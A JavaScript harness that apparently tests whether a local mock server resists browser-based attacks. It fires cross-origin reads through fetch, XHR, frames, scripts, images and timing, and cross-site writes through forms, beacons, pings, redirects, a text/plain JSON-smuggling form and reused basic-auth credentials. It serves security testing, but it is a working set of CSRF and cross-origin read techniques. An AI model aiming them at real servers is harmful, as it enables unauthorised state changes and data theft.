'use strict';
// All that a page can send to a server, and what it sees of the answers.
//
// run(target, home, patience) attacks the server at the origin `target` and returns {name of the attack: what the page
// saw}; an empty text is nothing. `home` is the origin of the attacker's own server. An attack that has no end after
// `patience` milliseconds has seen LATE. `only` are the names of the attacks to send, by default all. An attack's name is its way, a space and the path that it attacks. Each request
// has it in the parameter `attack`, so that the server's log tells which attacks have arrived.

const LATE = '(late)';
const AT_ONCE = 12; // attacks, since hundreds of frames that load together get into each other's way
const USER = ['username', 'password'];
const BASIC = `Basic ${btoa(USER.join(':'))}`;

const READS = ['/instances.json', '/_rtgmock/state'];
const READS_BY_FETCH = ['/', '/instances/1.xml', '/_rtgmock/requests', '/_rtgmock/openapi.json'];
const WRITES = [
  ['POST', '/instances.json', { plan: 'nano' }],
  ['POST', '/instances/1', { _method: 'delete' }],
  ['POST', '/instances/1.json', { _method: 'put', plan: 'mini' }],
  ['PUT', '/instances/1.json', { plan: 'mini' }],
  ['DELETE', '/instances/1', {}],
  ['POST', '/_rtgmock/reset', {}],
  ['PUT', '/_rtgmock/state', { instances: [] }],
  ['POST', '/_rtgmock/faults', { status: 503 }],
  ['POST', '/_rtgmock/clock', { advance: 3600 }],
  ['POST', '/_rtgmock/instances/1/status', { status: 'failed' }],
  ['DELETE', '/_rtgmock/requests', {}],
];
const POSTS = WRITES.filter(([method]) => method === 'POST');
const FORMS = POSTS.filter(([, path]) => ['/instances.json', '/instances/1', '/_rtgmock/reset'].includes(path));

const ENCTYPES = { form: 'application/x-www-form-urlencoded', multipart: 'multipart/form-data', text: 'text/plain' };
const BODIES = {
  form: (fields) => new URLSearchParams(fields),
  multipart: (fields) => Object.entries(fields).reduce((data, pair) => (data.append(...pair), data), new FormData()),
  text: (fields) => JSON.stringify(fields), // labelled text/plain
  json: (fields) => new Blob([JSON.stringify(fields)], { type: 'application/json' }),
};

const make = (tag, attributes) => Object.assign(document.createElement(tag), attributes);
const redirect = (home, status, url) => `${home}/redirect?status=${status}&to=${encodeURIComponent(url)}`;
// A script of a server without protection leaves this.
const loot = (url) => globalThis[new URL(url).searchParams.get('attack')] ?? '';

function load(tag, attributes, look = () => 'loaded') {
  const node = make(tag, attributes);
  const seen = new Promise((resolve) => {
    node.onload = node.onloadedmetadata = () => resolve(look(node));
    node.onerror = () => resolve('');
  });
  document.body.append(node);
  return seen.finally(() => node.remove());
}

function textIn(frame) {
  try {
    return (frame.document ?? frame.contentDocument)?.body?.innerText ?? '';
  } catch {
    return ''; // of another origin
  }
}

function isBlank(other) {
  try {
    return other.location.href === 'about:blank';
  } catch {
    return false; // it is of another origin by now
  }
}

function isLoading(other) {
  try {
    return other.document.readyState !== 'complete';
  } catch {
    return false;
  }
}

async function send(url, options) {
  const response = await fetch(url, { credentials: 'include', ...options });
  return `${response.status || ''}${await response.text()}`; // an opaque response has no status, and an empty text
}

const request = (url, ...user) => new Promise((resolve) => {
  const sent = new XMLHttpRequest();
  sent.open('GET', url, true, ...user);
  sent.withCredentials = true;
  sent.onload = () => resolve(sent.responseText);
  sent.onerror = () => resolve('');
  sent.send();
});

function importInWorker(url) {
  const name = JSON.stringify(new URL(url).searchParams.get('attack'));
  const program = `try { importScripts(${JSON.stringify(url)}); postMessage(self[${name}]); } catch { postMessage(''); }`;
  const worker = new Worker(URL.createObjectURL(new Blob([program])));
  return new Promise((resolve) => {
    worker.onmessage = (event) => resolve(event.data);
    worker.onerror = () => resolve('');
  }).finally(() => worker.terminate());
}

const listen = (url) => new Promise((resolve) => {
  const source = new EventSource(url, { withCredentials: true });
  source.onmessage = (event) => { source.close(); resolve(event.data); };
  source.onerror = () => { source.close(); resolve(''); };
});

// Wait for the end of a request of which the browser tells a page nothing else.
async function ended(url) {
  while (!performance.getEntriesByName(url).length) await new Promise((resolve) => { setTimeout(resolve, 10); });
  return '';
}

const openSocket = (url) => new Promise((resolve) => {
  const socket = new WebSocket(url.replace('http', 'ws'));
  socket.onopen = () => { socket.close(); resolve('open'); };
  socket.onerror = () => resolve('');
});

// What the browser's clock tells of a request: how it ended, and how large its answer was.
async function timing(url) {
  await load('img', { src: url });
  const [entry] = performance.getEntriesByName(url);
  return entry?.responseStatus || entry?.encodedBodySize ? `${entry.responseStatus} ${entry.encodedBodySize}` : '';
}

// The result of each is what the page sees.
const WAYS_TO_READ = {
  'fetch': (url) => send(url),
  'fetch without cors': (url) => send(url, { mode: 'no-cors' }),
  'fetch from the cache': (url) => send(url, { mode: 'no-cors', cache: 'force-cache' }),
  'fetch with credentials': (url) => send(url, { headers: { Authorization: BASIC } }),
  'fetch with a false origin': (url) => send(url, {
    headers: { Origin: new URL(url).origin, Host: 'localhost', 'Sec-Fetch-Site': 'none' }, // a browser ignores these
    referrerPolicy: 'no-referrer',
  }),
  'redirected fetch': (url, home) => send(redirect(home, 302, url)),
  'XMLHttpRequest': (url) => request(url),
  'EventSource': listen,
  'WebSocket': openSocket,
  'worker': importInWorker,
  'module': (url) => load('script', { type: 'module', crossOrigin: 'use-credentials', src: url }, () => loot(url)),
  'script': (url) => load('script', { src: url }, () => loot(url) || 'loaded'),
  'style': (url) => load('link', { rel: 'stylesheet', href: url },
    () => getComputedStyle(document.documentElement).getPropertyValue('--loot') || 'loaded'),
  'image': (url) => load('img', { src: url }, (image) => `${image.naturalWidth}`),
  'image with cors': (url) => load('img', { crossOrigin: 'use-credentials', src: url }, (image) => `${image.width}`),
  'redirected image': (url, home) => load('img', { src: redirect(home, 302, url) }, (image) => `${image.naturalWidth}`),
  'image button': (url) => load('input', { type: 'image', src: url }, (button) => `${button.width}`),
  'timing': timing,
  'video': (url) => load('video', { src: url }, (video) => `${video.duration}`),
  'preload': (url) => load('link', { rel: 'preload', as: 'script', href: url }),
  'prefetch': (url) => load('link', { rel: 'prefetch', href: url }),
  'frame': (url) => load('iframe', { src: url }, textIn),
  'redirected frame': (url, home) => load('iframe', { src: redirect(home, 302, url) }, textIn),
  'object': (url) => load('object', { data: url }, (node) => textIn(node) || 'loaded'),
  'embed': (url) => load('embed', { src: url }, () => ''), // a page never sees into one
};

function makeForm(url, fields, enctype, target) {
  const form = make('form', { action: url, method: 'POST', enctype, target });
  form.append(...Object.entries(fields).map(([name, value]) => make('input', { name, value })));
  document.body.append(form);
  return form;
}

async function submit(url, fields, enctype) {
  const frame = make('iframe', { name: `frame${Math.random()}` });
  document.body.append(frame);
  const form = makeForm(url, fields, enctype, frame.name);
  const seen = new Promise((resolve) => {
    frame.onload = () => isBlank(frame.contentWindow) || resolve(textIn(frame));
    form.submit();
  });
  return seen.finally(() => { frame.remove(); form.remove(); });
}

// A form whose text/plain body is a JSON document: {"status": 503, "x": "="}.
function submitJson(url, fields) {
  const whole = JSON.stringify({ ...fields, x: '' });
  return submit(url, { [whole.slice(0, -2)]: '"}' }, ENCTYPES.text);
}

function ping(url) {
  const frame = make('iframe', { name: `frame${Math.random()}` });
  const link = make('a', { href: 'about:blank#', target: frame.name, ping: url }); // to lead this page nowhere
  document.body.append(frame, link);
  link.click();
  return ended(url);
}

function* attacks(home) {
  for (const path of READS) {
    for (const [way, act] of Object.entries(WAYS_TO_READ)) yield [way, path, (url) => act(url, home)];
  }
  for (const path of READS_BY_FETCH) yield ['fetch', path, (url) => send(url)];
  for (const [method, path, fields] of WRITES) {
    for (const kind of ['form', 'json']) {
      yield [`fetch ${method} ${kind}`, path,
        (url) => send(url, { method, body: BODIES[kind](fields), headers: { Authorization: BASIC } })];
    }
  }
  for (const [, path, fields] of POSTS) {
    for (const [kind, body] of Object.entries(BODIES)) {
      yield [`fetch without cors ${kind}`, path,
        (url) => send(url, { method: 'POST', mode: 'no-cors', body: body(fields) })];
    }
  }
  for (const [, path, fields] of FORMS) {
    for (const [kind, body] of Object.entries(BODIES)) {
      yield [`beacon ${kind}`, path, (url) => (navigator.sendBeacon(url, body(fields)), ended(url))];
    }
    for (const [kind, enctype] of Object.entries(ENCTYPES)) {
      yield [`submitted ${kind}`, path, (url) => submit(url, fields, enctype)];
    }
    yield ['submitted JSON', path, (url) => submitJson(url, fields)];
    yield ['redirected form', path, (url) => submit(redirect(home, 307, url), fields, ENCTYPES.form)];
    yield ['ping', path, ping];
  }
}

// These hide the page, so that events of its frames may get lost.
function* attacksInWindows() {
  yield ['window', READS[0], (url) => inWindow((other) => { other.location = url; })];
  for (const [, path, fields] of FORMS) {
    yield ['form in a window', path,
      (url) => inWindow((other) => makeForm(url, fields, ENCTYPES.form, other.name).submit())];
  }
}

async function inWindow(go) {
  const other = open('about:blank', `window${Math.random()}`);
  go(other);
  const seen = new Promise((resolve) => {
    const timer = setInterval(() => {
      if (isBlank(other) || isLoading(other)) return;
      clearInterval(timer);
      resolve(textIn(other));
    }, 10);
  });
  return seen.finally(() => other.close());
}

async function run(target, home, patience, only) {
  const seen = {};
  const nonce = Math.random(); // no answer to an earlier run may be found in a cache
  performance.clearResourceTimings();
  performance.setResourceTimingBufferSize(10000);
  const attempt = async ([way, path, act]) => {
    const name = `${way} ${path}`;
    if (only && !only.includes(name)) return;
    const late = new Promise((resolve) => { setTimeout(resolve, patience, LATE); });
    try {
      seen[name] = await Promise.race([act(`${target}${path}?attack=${encodeURIComponent(name)}&nonce=${nonce}`), late]);
    } catch {
      seen[name] = ''; // what a script is told of a failure is always the same
    }
  };
  const inTurn = async (waiting) => {
    for (const attack of waiting) await attempt(attack);
  };
  // The browser sends this user and password by itself from then on, if it is let in.
  await attempt(['XMLHttpRequest with a password', READS[0], (url) => request(url, ...USER)]);
  const waiting = attacks(home);
  await Promise.all(Array.from({ length: AT_ONCE }, () => inTurn(waiting)));
  await inTurn(attacksInWindows());
  return seen;
}

// The same from a frame whose origin is null.
async function runSandboxed(...parameters) {
  const call = `run(...${JSON.stringify(parameters)}).then((seen) => parent.postMessage(seen, '*'))`;
  const srcdoc = `<body><script src="${parameters[1]}/attacks.js"></script><script>${call}</script>`;
  const frame = make('iframe', { srcdoc });
  frame.sandbox = 'allow-scripts allow-forms allow-popups';
  const seen = new Promise((resolve) => {
    addEventListener('message', (event) => resolve(event.data), { once: true });
  });
  document.body.append(frame);
  return seen.finally(() => frame.remove());
}
